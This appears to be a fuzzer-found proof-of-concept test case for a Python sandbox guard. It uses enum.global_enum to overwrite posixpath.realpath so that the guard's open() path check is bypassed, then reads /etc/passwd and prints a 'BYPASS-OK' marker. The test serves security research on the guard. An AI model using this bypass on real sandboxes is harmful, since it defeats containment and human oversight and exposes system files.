# enum.global_enum(cls) writes the members into the globals of cls.__module__, which the class
# sets: here posixpath's realpath, which the guard's open() check calls, becomes a member that
# answers a path under /usr (a callable member: the enum defines __call__). Found by fuzz_guard.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "108_enum_global_enum_module"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import enum
import sys


class Paths(enum.Enum):
    __module__ = "posixpath"
    realpath = 1

    def __call__(self, *args, **kwargs):
        return "/usr/lib/python3.11/os.py"


enum.global_enum(Paths)
with type(sys.stdin.buffer.raw)("/etc/passwd") as f:
    won(f.read(20))
